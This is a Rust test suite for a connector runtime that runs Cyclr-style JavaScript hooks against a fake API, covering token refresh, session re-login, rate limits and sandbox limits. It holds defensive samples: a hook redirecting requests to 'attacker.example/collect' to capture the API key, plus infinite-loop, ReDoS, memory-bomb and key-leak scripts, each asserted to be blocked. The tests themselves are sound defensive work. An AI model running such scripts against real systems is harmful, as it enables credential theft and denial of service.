//! Golden tests: the Cyclr documentation's scripts, unchanged, against a fake third-party API.

mod fake_api;

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use fake_api::{Fake, Stale, TokenMode};
use portcullis_connect::script::Limits;
use portcullis_connect::{
    AccountInput, CallRequest, Connector, ConnectorRuntime, Credentials, InboundWebhook, OAuthValue, RuntimeConfig,
};
use portcullis_core::ErrorCode;
use portcullis_core::clock::{Clock, SystemClock};
use portcullis_core::keys::MasterKey;
use portcullis_core::organization::Organization;
use portcullis_core::store::{AccountState, Store};
use serde_json::json;

// Seed 000/001 (Cyclr "Exceptions" page), verbatim.
const SEED_REFRESH_AFTER_ACTION: &str = r"function after_action() {
    if (method_response != null && method_response.error != null && typeof method_response.error !== 'undefined' && method_response.error === 'invalid_grant') {
        throw new AuthRefreshException();
    }
   
    return true;
}";
const SEED_REFRESH_AFTER_ERROR: &str = r"function after_error() {
    if (method_error != null && method_error.error != null && method_error.statusCode.toString() === '403') {
        throw new AuthRefreshException();
    }


    return true;
}";
const SEED_SESSION_AFTER_ACTION: &str = r"
function after_action() {
    if (method_response != null && method_response.error_code != null && typeof method_response.error_code !== 'undefined' && method_response.error_code === 'You are not logged on.') {
        throw new AuthSessionException();
    }


    return true;
}";
const SEED_SESSION_AFTER_ERROR: &str = r"function after_error() {
    if (method_error != null && method_error.statusCode != null && method_error.statusCode.toString() === '403') {
        throw new AuthSessionException();
    }
   
    return true;
}";

#[derive(Debug)]
pub struct Env {
    pub runtime: ConnectorRuntime,
    pub store: Arc<dyn Store>,
    pub master: Arc<MasterKey>,
    pub org: String,
    pub fake: Arc<Fake>,
    _dir: tempfile::TempDir,
}

fn indent(script: &str) -> String {
    script.lines().map(|l| format!("  {l}\n")).collect()
}

fn oauth_yaml(base: &str, script: &str) -> String {
    format!(
        "name: acme\nbase_url: {base}\nauth:\n  type: oauth2\n  grant: authorization_code\n  authorize_url: {base}/authorize\n  token_url: {base}/oauth/token\n  client_id: cid\n  client_secret: csecret\n  pkce: true\nscript: |\n{}methods:\n  list:\n    path: /data\n",
        indent(script)
    )
}

fn session_yaml(base: &str, script: &str) -> String {
    format!(
        "name: sess\nbase_url: {base}\nauth:\n  type: session\nproperties:\n  - name: Username\n    required: true\n  - name: Password\n    sensitive: true\n    required: true\nscript: |\n{}methods:\n  login:\n    http_method: POST\n    path: /login\n    body:\n      username: '{{{{Username}}}}'\n      password: '{{{{Password}}}}'\n  contacts:\n    path: /session-data\n    headers:\n      X-Session: '{{{{SessionId}}}}'\nlookup:\n  method: login\n  output_property: SessionId\n  response_path: session.id\n",
        indent(script)
    )
}

impl Env {
    pub async fn new(stale: Stale, token: TokenMode, yaml: impl Fn(&str) -> String, config: RuntimeConfig) -> Self {
        let fake = Fake::start(stale, token).await;
        let (store, dir) = fake_api::sqlite_store().await;
        Self::with_store(fake, store, dir, yaml, config).await
    }

    pub async fn with_store(
        fake: Arc<Fake>,
        store: Arc<dyn Store>,
        dir: tempfile::TempDir,
        yaml: impl Fn(&str) -> String,
        config: RuntimeConfig,
    ) -> Self {
        let org = Organization::new("acme", SystemClock.now()).expect("org");
        store.insert_organization(&org).await.expect("org");
        let master = Arc::new(MasterKey::generate().expect("key").0);
        let runtime = runtime(&fake, &store, &master, &yaml, config);
        Self { runtime, store, master, org: org.id, fake, _dir: dir }
    }

    pub async fn oauth_account(&self, id: &str, access: &str) {
        let value = OAuthValue {
            access_token: access.to_owned(),
            refresh_token: Some("rt-0".to_owned()),
            expires: None,
            refresh_expires: None,
        };
        let input = AccountInput {
            id: Some(id.to_owned()),
            connector: Some("acme".to_owned()),
            auth_value: Some(serde_json::to_string(&value).expect("json")),
            ..AccountInput::default()
        };
        self.runtime.create_account(&self.org, input).await.expect("account");
    }

    /// Installs account `id` of an API-key connector with `key` as its auth value.
    pub async fn api_key_account(&self, connector: &str, id: &str, key: &str) {
        let input = AccountInput {
            id: Some(id.to_owned()),
            connector: Some(connector.to_owned()),
            auth_value: Some(key.to_owned()),
            ..AccountInput::default()
        };
        self.runtime.create_account(&self.org, input).await.expect("account");
    }

    pub async fn credentials(&self, id: &str) -> (Credentials, AccountState, i64) {
        let record = self.store.connector_account(&self.org, id).await.expect("get").expect("exists");
        (Credentials::open(&self.master, id, &record.sealed_credentials).expect("open"), record.state, record.version)
    }

    pub async fn call(
        &self,
        connector: &str,
        method: &str,
    ) -> Result<portcullis_connect::CallResult, portcullis_core::Error> {
        let request = CallRequest { method: method.to_owned(), ..CallRequest::default() };
        self.runtime.call(&self.org, connector, "a1", &request).await
    }
}

pub fn runtime(
    fake: &Fake,
    store: &Arc<dyn Store>,
    master: &Arc<MasterKey>,
    yaml: &impl Fn(&str) -> String,
    config: RuntimeConfig,
) -> ConnectorRuntime {
    let connector = Connector::parse(Path::new("test.yaml"), &yaml(&fake.url)).expect("definition");
    let connectors = [(connector.name.clone(), connector)].into_iter().collect();
    ConnectorRuntime::new(connectors, Arc::clone(store), Arc::clone(master), Arc::new(SystemClock), config)
        .expect("runtime")
}

fn fast() -> RuntimeConfig {
    RuntimeConfig {
        limits: Limits { timeout: Duration::from_millis(500), memory_bytes: 16 * 1024 * 1024 },
        // The fake API listens on loopback, which the egress policy refuses unless allow-listed.
        egress_allow: vec!["127.0.0.1/32".parse().expect("network")],
        ..RuntimeConfig::default()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn seed_after_action_invalid_grant_refreshes_and_retries_once() {
    let env =
        Env::new(Stale::InvalidGrant200, TokenMode::Rotate, |b| oauth_yaml(b, SEED_REFRESH_AFTER_ACTION), fast()).await;
    env.oauth_account("a1", "at-stale").await;
    let result = env.call("acme", "list").await.expect("call");
    assert_eq!(result.data, json!({"items": [1, 2, 3]}));
    assert_eq!(result.recoveries, 1);
    assert_eq!(
        result.steps,
        ["The API refused the credentials (AuthRefreshException): refreshed the token, and sent the request again."],
        "the call says what it did"
    );
    assert_eq!(env.fake.tokens(), 1);
    let (credentials, state, version) = env.credentials("a1").await;
    let value = credentials.oauth().expect("oauth");
    assert_eq!(value.access_token, "at-1");
    assert_eq!(value.refresh_token.as_deref(), Some("rt-1"), "the rotated refresh token is stored");
    assert!(value.expires.is_some());
    assert_eq!((state, version), (AccountState::Ok, 2));
    let form = env.fake.scenario.lock().expect("lock").last_refresh_form.clone();
    assert!(form.contains(&("grant_type".to_owned(), "refresh_token".to_owned())));
    assert!(form.contains(&("refresh_token".to_owned(), "rt-0".to_owned())));
    // The next call uses the stored token: no further refresh.
    env.call("acme", "list").await.expect("call");
    assert_eq!(env.fake.tokens(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn seed_after_error_403_refreshes_and_retries_once() {
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, |b| oauth_yaml(b, SEED_REFRESH_AFTER_ERROR), fast()).await;
    env.oauth_account("a1", "at-stale").await;
    let result = env.call("acme", "list").await.expect("call");
    assert_eq!(result.data, json!({"items": [1, 2, 3]}));
    assert_eq!((result.recoveries, env.fake.tokens()), (1, 1));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn seed_after_action_not_logged_on_reruns_the_lookup_method() {
    let env =
        Env::new(Stale::NotLoggedOn200, TokenMode::Rotate, |b| session_yaml(b, SEED_SESSION_AFTER_ACTION), fast())
            .await;
    session_account(&env).await;
    let result = env.call("sess", "contacts").await.expect("call");
    assert_eq!(result.data, json!({"contacts": ["ada"]}));
    assert_eq!((result.recoveries, env.fake.logins()), (1, 1));
    assert_eq!(
        result.steps,
        ["The API refused the credentials (AuthSessionException): logged in again, and sent the request again."]
    );
    let (credentials, _, _) = env.credentials("a1").await;
    assert_eq!(credentials.properties.get("SessionId").map(String::as_str), Some("sess-1"));
    let view = env.runtime.account(&env.org, "a1").await.expect("view");
    assert_eq!(view.properties.get("Password").map(String::as_str), Some("********"), "sensitive is masked");
    assert_eq!(view.properties.get("Username").map(String::as_str), Some("ada"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn seed_after_error_403_reruns_the_lookup_method() {
    let env =
        Env::new(Stale::Forbidden, TokenMode::Rotate, |b| session_yaml(b, SEED_SESSION_AFTER_ERROR), fast()).await;
    session_account(&env).await;
    let result = env.call("sess", "contacts").await.expect("call");
    assert_eq!(result.data, json!({"contacts": ["ada"]}));
    assert_eq!((result.recoveries, env.fake.logins()), (1, 1));
}

async fn session_account(env: &Env) {
    let input = AccountInput {
        id: Some("a1".to_owned()),
        connector: Some("sess".to_owned()),
        properties: [("Username", "ada"), ("Password", "hunter2"), ("SessionId", "sess-old")]
            .into_iter()
            .map(|(k, v)| (k.to_owned(), v.to_owned()))
            .collect(),
        ..AccountInput::default()
    };
    env.runtime.create_account(&env.org, input).await.expect("account");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn failing_lookup_method_marks_the_account_and_does_not_recurse() {
    let env =
        Env::new(Stale::Forbidden, TokenMode::Rotate, |b| session_yaml(b, SEED_SESSION_AFTER_ERROR), fast()).await;
    session_account(&env).await;
    env.fake.set(|s| s.login_fails = true);
    let err = env.call("sess", "contacts").await.expect_err("lookup fails");
    assert_eq!(err.code(), ErrorCode::NeedsReauthentication);
    assert_eq!(env.fake.logins(), 1, "no recursion");
    assert_eq!(env.credentials("a1").await.1, AccountState::NeedsReauth);
    let again = env.call("sess", "contacts").await.expect_err("fails fast");
    assert_eq!(again.code(), ErrorCode::NeedsReauthentication);
    assert_eq!(env.fake.logins(), 1, "fails fast, no new login");
    // New credentials clear the state.
    env.fake.set(|s| s.login_fails = false);
    let input =
        AccountInput { properties: [("SessionId".to_owned(), "x".to_owned())].into(), ..AccountInput::default() };
    env.runtime.update_account(&env.org, "a1", input).await.expect("update");
    env.call("sess", "contacts").await.expect("works again");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn session_ttl_reruns_the_lookup_before_calls_once_the_session_is_old() {
    use portcullis_core::clock::{ManualClock, Timestamp};
    let yaml = |b: &str| session_yaml(b, "") + "  session_ttl_secs: 600\n";
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, yaml, fast()).await;
    let clock = ManualClock::new(Timestamp::from_unix_millis(1_800_000_000_000));
    let connector = Connector::parse(Path::new("test.yaml"), &yaml(&env.fake.url)).expect("definition");
    assert_eq!(connector.lookup.as_ref().and_then(|l| l.session_ttl_secs), Some(600));
    let runtime = Arc::new(
        ConnectorRuntime::new(
            [(connector.name.clone(), connector)].into_iter().collect(),
            Arc::clone(&env.store),
            Arc::clone(&env.master),
            Arc::new(clock.clone()),
            fast(),
        )
        .expect("runtime"),
    );
    let input = AccountInput {
        id: Some("a1".to_owned()),
        connector: Some("sess".to_owned()),
        properties: [("Username", "ada"), ("Password", "hunter2")]
            .into_iter()
            .map(|(k, v)| (k.to_owned(), v.to_owned()))
            .collect(),
        ..AccountInput::default()
    };
    runtime.create_account(&env.org, input).await.expect("install runs the lookup");
    let call = |runtime: Arc<ConnectorRuntime>, org: String| async move {
        let request = CallRequest { method: "contacts".to_owned(), ..CallRequest::default() };
        runtime.call(&org, "sess", "a1", &request).await
    };
    assert_eq!(env.fake.logins(), 1);
    call(Arc::clone(&runtime), env.org.clone()).await.expect("fresh session");
    clock.advance(Duration::from_secs(599));
    let young = call(Arc::clone(&runtime), env.org.clone()).await.expect("still young");
    assert_eq!((env.fake.logins(), young.recoveries), (1, 0), "no lookup before the TTL");

    clock.advance(Duration::from_secs(1));
    let calls: Vec<_> = (0..8).map(|_| tokio::spawn(call(Arc::clone(&runtime), env.org.clone()))).collect();
    let mut renewed_here = 0;
    for task in calls {
        let result = task.await.expect("task").expect("renewed before sending");
        assert_eq!((result.data.clone(), result.recoveries), (json!({"contacts": ["ada"]}), 0));
        renewed_here +=
            result.steps.iter().filter(|s| *s == "The session had expired: logged in again before sending.").count();
    }
    assert_eq!(renewed_here, 1, "one call says it logged in again");
    assert_eq!(env.fake.logins(), 2, "one proactive lookup for eight concurrent calls at the TTL");
    assert_eq!(env.credentials("a1").await.0.properties["SessionId"], "sess-2");
    call(Arc::clone(&runtime), env.org.clone()).await.expect("new session is young");
    assert_eq!(env.fake.logins(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rotated_refresh_tokens_are_persisted_across_refreshes() {
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, |b| oauth_yaml(b, SEED_REFRESH_AFTER_ERROR), fast()).await;
    env.oauth_account("a1", "at-stale").await;
    env.call("acme", "list").await.expect("first");
    // The provider revokes the access token: the next refresh must present rt-1, not rt-0.
    env.fake.set(|s| s.access_token = "revoked".to_owned());
    env.call("acme", "list").await.expect("second");
    assert_eq!(env.fake.tokens(), 2);
    let value = env.credentials("a1").await.0.oauth().expect("oauth");
    assert_eq!((value.access_token.as_str(), value.refresh_token.as_deref()), ("at-2", Some("rt-2")));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn failing_token_endpoint_is_transient_and_keeps_the_account_usable() {
    let env = Env::new(Stale::Forbidden, TokenMode::Fail, |b| oauth_yaml(b, SEED_REFRESH_AFTER_ERROR), fast()).await;
    env.oauth_account("a1", "at-stale").await;
    let err = env.call("acme", "list").await.expect_err("refresh fails");
    assert_eq!(err.code(), ErrorCode::AuthRefreshRequired);
    assert_eq!(env.fake.tokens(), 3, "three attempts");
    assert_eq!(env.credentials("a1").await.1, AccountState::Ok);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rejected_refresh_needs_reauthentication_until_credentials_change() {
    let env = Env::new(Stale::Forbidden, TokenMode::Reject, |b| oauth_yaml(b, SEED_REFRESH_AFTER_ERROR), fast()).await;
    env.oauth_account("a1", "at-stale").await;
    let err = env.call("acme", "list").await.expect_err("rejected");
    assert_eq!(err.code(), ErrorCode::NeedsReauthentication);
    assert_eq!(env.call("acme", "list").await.expect_err("fast").code(), ErrorCode::NeedsReauthentication);
    assert_eq!(env.fake.tokens(), 1, "no further token calls");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn retry_failing_again_marks_needs_reauth_with_a_cooldown() {
    let config = RuntimeConfig { reauth_cooldown: Duration::from_millis(400), ..fast() };
    let env = Env::new(Stale::Forbidden, TokenMode::Useless, |b| oauth_yaml(b, SEED_REFRESH_AFTER_ERROR), config).await;
    env.oauth_account("a1", "at-stale").await;
    let err = env.call("acme", "list").await.expect_err("still 403");
    assert_eq!(err.code(), ErrorCode::NeedsReauthentication);
    assert_eq!(env.fake.tokens(), 1, "no second refresh");
    let (_, state, _) = env.credentials("a1").await;
    assert_eq!(state, AccountState::NeedsReauth);
    assert_eq!(env.call("acme", "list").await.expect_err("cooldown").code(), ErrorCode::NeedsReauthentication);
    assert_eq!(env.fake.tokens(), 1, "fail fast during the cooldown");
    tokio::time::sleep(Duration::from_millis(450)).await;
    env.fake.set(|s| s.token = TokenMode::Rotate);
    env.call("acme", "list").await.expect("the probe refreshes and succeeds");
    assert_eq!(env.fake.tokens(), 2);
    assert_eq!(env.credentials("a1").await.1, AccountState::Ok, "the probe clears the state");
}

/// A call whose token is refused while another renewal lands (here an operator's new auth value) retries
/// with that renewal; when the provider refuses it too, the call refreshes itself instead of giving up:
/// only a refusal after the call's own refresh means the account needs re-authentication.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_renewal_made_elsewhere_is_refreshed_not_taken_for_bad_credentials() {
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, |b| oauth_yaml(b, SEED_REFRESH_AFTER_ERROR), fast()).await;
    env.oauth_account("a1", "at-stale").await;
    env.fake.set(|s| s.refusal_delay = Duration::from_millis(300));
    let env = Arc::new(env);
    let call = {
        let env = Arc::clone(&env);
        tokio::spawn(async move { env.call("acme", "list").await })
    };
    tokio::time::sleep(Duration::from_millis(100)).await;
    let renewed = json!({ "AccessToken": "at-refused-too", "RefreshToken": "rt-0" }).to_string();
    let input = AccountInput { auth_value: Some(renewed), ..AccountInput::default() };
    env.runtime.update_account(&env.org, "a1", input).await.expect("renewed elsewhere");

    call.await.expect("task").expect("the call refreshes itself and succeeds");
    assert_eq!(env.fake.tokens(), 1);
    let (value, state, _) = env.credentials("a1").await;
    assert_eq!(state, AccountState::Ok);
    assert_eq!(value.oauth().expect("oauth").access_token, "at-1");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn short_retry_after_is_honoured_inline_and_long_one_is_reported() {
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, |b| oauth_yaml(b, SEED_REFRESH_AFTER_ERROR), fast()).await;
    env.oauth_account("a1", "at-valid").await;
    env.fake.set(|s| s.rate_limited = 1);
    let started = std::time::Instant::now();
    env.call("acme", "list").await.expect("waited and retried");
    assert!(started.elapsed() >= Duration::from_secs(1), "Retry-After: 1 honoured");
    env.fake.set(|s| {
        s.rate_limited = 1;
        s.retry_after = "120";
    });
    let err = env.call("acme", "list").await.expect_err("long wait");
    assert_eq!(err.code(), ErrorCode::UpstreamRateLimited);
    assert_eq!(err.retry_after_secs(), Some(120));
    let calls = env.fake.data_calls.load(std::sync::atomic::Ordering::SeqCst);
    assert_eq!(env.call("acme", "list").await.expect_err("blocked").code(), ErrorCode::UpstreamRateLimited);
    assert_eq!(env.fake.data_calls.load(std::sync::atomic::Ordering::SeqCst), calls, "blocked calls are not sent");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn hundred_concurrent_calls_on_an_expired_token_make_one_token_request() {
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, |b| oauth_yaml(b, SEED_REFRESH_AFTER_ERROR), fast()).await;
    env.oauth_account("a1", "at-stale").await;
    let env = Arc::new(env);
    let tasks: Vec<_> = (0..100)
        .map(|_| {
            let env = Arc::clone(&env);
            tokio::spawn(async move { env.call("acme", "list").await })
        })
        .collect();
    for task in tasks {
        let result = task.await.expect("task").expect("every call succeeds");
        assert_eq!(result.data, json!({"items": [1, 2, 3]}));
    }
    assert_eq!(env.fake.tokens(), 1, "exactly one token request");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn proactive_refresh_before_expiry_is_single_flight() {
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, |b| oauth_yaml(b, ""), fast()).await;
    let value = OAuthValue {
        access_token: "at-valid".to_owned(),
        refresh_token: Some("rt-0".to_owned()),
        expires: Some("2000-01-01T00:00:00Z".to_owned()),
        refresh_expires: None,
    };
    let input = AccountInput {
        id: Some("a1".to_owned()),
        connector: Some("acme".to_owned()),
        auth_value: Some(serde_json::to_string(&value).expect("json")),
        ..AccountInput::default()
    };
    env.runtime.create_account(&env.org, input).await.expect("account");
    let env = Arc::new(env);
    let tasks: Vec<_> = (0..20)
        .map(|_| {
            let env = Arc::clone(&env);
            tokio::spawn(async move { env.call("acme", "list").await })
        })
        .collect();
    for task in tasks {
        task.await.expect("task").expect("call");
    }
    assert_eq!(env.fake.tokens(), 1);
}

fn echo_yaml(base: &str, script: &str) -> String {
    format!(
        "name: echo\nbase_url: {base}\nauth:\n  type: api_key\n  header: X-Api-Key\nscript: |\n{}methods:\n  echo:\n    path: /echo\n    query:\n      q: '{{{{Term}}}}'\n    script: |\n      function before_action() {{ order.push('method'); method_request_headers['X-Order'] = order.join(','); return true; }}\n      function after_action() {{ order.push('method'); method_response.order = order.join(','); return true; }}\n",
        indent(script)
    )
}

async fn echo_env(connector_script: &str) -> Env {
    let script = connector_script.to_owned();
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, move |b| echo_yaml(b, &script), fast()).await;
    let input = AccountInput {
        id: Some("a1".to_owned()),
        connector: Some("echo".to_owned()),
        auth_value: Some("k-123".to_owned()),
        ..AccountInput::default()
    };
    env.runtime.create_account(&env.org, input).await.expect("account");
    env
}

async fn echo_call(env: &Env, step: Option<&str>) -> Result<portcullis_connect::CallResult, portcullis_core::Error> {
    let request = CallRequest {
        method: "echo".to_owned(),
        mergefields: [("Term".to_owned(), json!("ada"))].into_iter().collect(),
        script: step.map(str::to_owned),
        ..CallRequest::default()
    };
    env.runtime.call(&env.org, "echo", "a1", &request).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn handlers_on_three_levels_run_in_cyclr_order_and_stay_apart() {
    let connector = "var order = globalThis.order = [];\nfunction before_action() { order.push('connector'); method_request_headers['X-Trace'] = cycle_id; return true; }\nfunction after_action() { order.push('connector'); return true; }";
    let env = echo_env(connector).await;
    let step = "function before_action() { order.push('step'); method_request_headers['X-Order'] = order.join(','); return true; }\nfunction after_action() { order.push('step'); method_response.order = order.join(','); return true; }";
    let result = echo_call(&env, Some(step)).await.expect("call");
    // before: method → connector → step; others: connector → method → step.
    assert_eq!(result.data["headers"]["x-order"], "method,connector,step");
    // Each event runs in a fresh context: only the writable globals (action_data, method_*) carry over.
    assert_eq!(result.data["order"], "connector,method,step");
    assert_eq!(result.data["headers"]["x-api-key"], "k-123", "auth applied after before_action");
    assert!(result.data["headers"]["x-trace"].as_str().is_some_and(|t| !t.is_empty()));
    assert_eq!(result.data["query"], "q=ada");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn doc_examples_globals_return_false_and_builtins() {
    // Reassigned globals are read back; `method_auth_value` (Doc: ApiKey) sets a header that wins.
    let env = echo_env("var order = globalThis.order = [];").await;
    let step = "function before_action() { method_request_headers.Authorization = 'Bearer ' + method_auth_value; method_request_parameters = { page: '2' }; return true; }\n\
                function after_action() { method_response = { b: btoa('Hĕllō Wōrld'), a: btoa('Hĕllō Wōrld', 'ascii'), i: btoa('Hĕllō Wōrld', 'iso-8859-1'), back: atob('SGVsbG8gV29ybGQ=', 'iso-8859-1'), auth: method_response.headers.authorization, q: method_response.query, sig: cyclr_sign('HMAC-SHA256', 'key', 'The quick brown fox jumps over the lazy dog') }; return true; }";
    let result = echo_call(&env, Some(step)).await.expect("call");
    assert_eq!(result.data["b"], "SMSVbGzFjSBXxY1ybGQ=");
    assert_eq!(result.data["a"], "SD9sbD8gVz9ybGQ=");
    assert_eq!(result.data["i"], "SGVsbG8gV29ybGQ=");
    assert_eq!(result.data["back"], "Hello World");
    // The header carried the key (the API echoed it), but a step script only ever sees it masked.
    assert_eq!(result.data["auth"], "Bearer ********");
    assert_eq!(result.data["q"], "page=2");
    assert_eq!(result.data["sig"], "97yD9DBThCSxMpjmqm+xQ+9NWaFJRhdZl0edvC0aPNg=");

    let abort = "function before_action() { return false; }";
    let result = echo_call(&env, Some(abort)).await.expect("aborted");
    assert_eq!((result.outcome, result.status), ("aborted", 0));

    let condition = "function action_condition() { return method_response.query === 'q=ada'; }";
    assert_eq!(echo_call(&env, Some(condition)).await.expect("call").condition, Some(true));

    let http = format!(
        "function after_action() {{ var r = http_request({{ method: 'GET', url: '{}/echo', parameters: {{ x: '1' }}, headers: {{}} }}); method_response = {{ s: r.status_code, key: r.content.headers['x-api-key'], q: r.content.query }}; console.log('fetched', r.status_code); return true; }}",
        env.fake.url
    );
    let result = echo_call(&env, Some(&http)).await.expect("call");
    assert_eq!(result.data, json!({"s": 200, "key": "********", "q": "x=1"}));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn after_error_flags_decide_the_outcome() {
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, |b| oauth_yaml(b, ""), fast()).await;
    env.oauth_account("a1", "at-stale").await;
    let call = |script: &'static str| {
        let request =
            CallRequest { method: "list".to_owned(), script: Some(script.to_owned()), ..CallRequest::default() };
        let env = &env;
        async move { env.runtime.call(&env.org, "acme", "a1", &request).await }
    };
    let ok = call("function after_error() { method_error.isError = false; method_error.isSuccess = true; method_error.content = '{}'; return true; }").await.expect("success");
    assert_eq!((ok.outcome, ok.data.clone()), ("success", json!({})));
    let warn =
        call("function after_error() { method_error.isError = false; method_error.isWarning = true; return true; }")
            .await
            .expect("warning");
    assert_eq!((warn.outcome, warn.status), ("warning", 403));
    let err = call("function after_error() { return true; }").await.expect_err("error");
    assert_eq!(err.code(), ErrorCode::UpstreamError);
    // Older doc variant: `== 403` and no null check.
    let old = call(
        "function after_error() { if (method_error.statusCode == 403) throw new AuthRefreshException(); return true; }",
    )
    .await
    .expect("refreshed");
    assert_eq!(old.recoveries, 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn before_action_may_move_the_request_within_the_api_origin_only() {
    let env = echo_env("var order = globalThis.order = [];").await;
    let moved =
        "function before_action() { method_endpoint = method_endpoint.replace('/echo', '/moved'); return true; }";
    let result = echo_call(&env, Some(moved)).await.expect("moved within the API's origin");
    assert_eq!(
        (&result.data["moved"], &result.data["query"], &result.data["key"]),
        (&json!(true), &json!("q=ada"), &json!("k-123"))
    );

    let away = "function before_action() { method_endpoint = 'http://attacker.example/collect'; return true; }";
    let refused = echo_call(&env, Some(away)).await.expect_err("another origin is refused");
    assert_eq!(refused.code(), ErrorCode::ScriptError);
    assert!(refused.message().contains("origin"), "{}", refused.message());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn after_error_sees_the_reason_phrase_the_upstream_sent() {
    let yaml = |b: &str| {
        format!(
            "name: acme\nbase_url: {b}\nauth:\n  type: api_key\n  header: X-Api-Key\nmethods:\n  subscribe:\n    \
             http_method: POST\n    path: /invalid-email\n"
        )
    };
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, yaml, fast()).await;
    env.api_key_account("acme", "a1", "k-1").await;
    // Cyclr's documented after_error examples match the upstream's own phrase.
    let script = "function after_error() { if (method_error.reasonPhrase === 'Email Address not valid') { \
                  method_error.isError = false; method_error.isSuccess = true; \
                  method_error.content = JSON.stringify({ matched: reasonPhrase }); } return true; }";
    let request =
        CallRequest { method: "subscribe".to_owned(), script: Some(script.to_owned()), ..CallRequest::default() };
    let result = env.runtime.call(&env.org, "acme", "a1", &request).await.expect("the script turns it into a success");
    assert_eq!(result.data, json!({ "matched": "Email Address not valid" }));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_scripts_are_stopped_and_other_calls_keep_working() {
    let env = echo_env("var order = globalThis.order = [];").await;
    let cases: &[(&str, ErrorCode)] = &[
        ("function before_action() { while (true) {} }", ErrorCode::ScriptTimeout),
        (
            "function before_action() { while (true) { try { while (true) {} } catch (e) {} } }",
            ErrorCode::ScriptTimeout,
        ),
        ("function before_action() { return /(a+)+$/.test('a'.repeat(40) + 'b'); }", ErrorCode::ScriptTimeout),
        (
            "function before_action() { var a = []; while (true) { a.push('x'.repeat(1024 * 1024)); } }",
            ErrorCode::ScriptMemoryExceeded,
        ),
        ("function before_action() { throw 42; }", ErrorCode::ScriptError),
        ("function before_action() { throw null; }", ErrorCode::ScriptError),
        ("function before_action() { throw { name: 'Other' }; }", ErrorCode::ScriptError),
        ("function before_action() { throw 'AuthRefreshException'; }", ErrorCode::ScriptError),
        ("function before_action() { function f() { return f(); } return f(); }", ErrorCode::ScriptError),
        ("function before_action() { syntax error here", ErrorCode::ScriptError),
        ("function after_action_paging() { throw new AuthRefreshException(); }", ErrorCode::ScriptError),
    ];
    for (script, code) in cases {
        let err = echo_call(&env, Some(script)).await.expect_err(script);
        assert_eq!(err.code(), *code, "{script}: {}", err.message());
        echo_call(&env, None).await.expect("a normal call still works");
    }
    let leak = echo_call(&env, Some("function before_action() { throw new Error('key is ' + method_auth_value); }"));
    let message = leak.await.expect_err("throws").message().to_owned();
    assert!(message.contains("key is ********") && !message.contains("k-123"), "{message}");
    // Many fresh contexts after a memory bomb still allocate.
    for _ in 0..50 {
        echo_call(&env, Some("function after_action() { method_response = { n: [1,2,3].map(function (x) { return x * 2; }) }; return true; }")).await.expect("fresh context");
    }
}

/// Two connector runtimes, each with its own pool and in-process state, on one PostgreSQL database and key;
/// the first holds account `a1` (OAuth, `at-valid`). Drop the database guard last.
async fn two_instances_on_postgres(
    yaml: impl Fn(&str) -> String + Copy,
    access: &str,
) -> (Arc<Env>, Arc<ConnectorRuntime>, portcullis_store_conformance::TestPostgres) {
    use portcullis_store_conformance::TestPostgres;
    use portcullis_store_postgres::{PostgresOptions, PostgresStore};
    let database = TestPostgres::create().await;
    let connect = || {
        let options =
            PostgresOptions { url: database.url.clone(), pool_size: 16, connect_timeout: Duration::from_secs(5) };
        let store: Arc<dyn Store> = Arc::new(PostgresStore::connect(&options).expect("pool"));
        store
    };
    let first = connect();
    first.migrate().await.expect("migrate");
    let fake = Fake::start(Stale::Forbidden, TokenMode::Rotate).await;
    let env = Env::with_store(Arc::clone(&fake), first, tempfile::tempdir().expect("dir"), yaml, fast()).await;
    env.oauth_account("a1", access).await;
    let second = runtime(&fake, &connect(), &env.master, &yaml, fast());
    (Arc::new(env), Arc::new(second), database)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn two_runtime_instances_on_one_postgres_make_one_token_request() {
    let (env, second, database) =
        two_instances_on_postgres(|b| oauth_yaml(b, SEED_REFRESH_AFTER_ERROR), "at-stale").await;
    let mut tasks = Vec::new();
    for i in 0..40 {
        let env = Arc::clone(&env);
        let second = Arc::clone(&second);
        tasks.push(tokio::spawn(async move {
            let request = CallRequest { method: "list".to_owned(), ..CallRequest::default() };
            if i % 2 == 0 {
                env.runtime.call(&env.org, "acme", "a1", &request).await
            } else {
                second.call(&env.org, "acme", "a1", &request).await
            }
        }));
    }
    for task in tasks {
        task.await.expect("task").expect("every call succeeds");
    }
    assert_eq!(env.fake.tokens(), 1, "one token request across both instances");
    drop(database);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn configured_rate_limits_and_the_429_block_list_are_shared_by_two_instances() {
    let yaml = |b: &str| oauth_yaml(b, "") + "rate_limit:\n  requests_per_second: 10\n";
    let (env, second, database) = two_instances_on_postgres(yaml, "at-valid").await;
